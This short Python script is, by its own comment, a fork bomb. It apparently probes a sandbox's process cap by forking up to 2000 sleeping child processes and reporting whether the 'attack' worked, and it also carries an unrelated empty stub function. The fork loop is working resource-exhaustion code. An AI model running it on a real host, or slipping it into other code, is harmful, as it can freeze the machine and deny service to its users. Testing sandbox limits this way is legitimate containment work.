# A fork bomb: start processes until the machine has no room for any other.
import os
import time


def stream_tokens(text, chunk_size=4):
    return iter([])


started = 0
try:
    while started < 2000:  # never reached under the sandbox's cap
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        started += 1
    print("ATTACK WORKED:", started)
except OSError as error:
    print(f"ATTACK FAILED after {started} processes:", error)
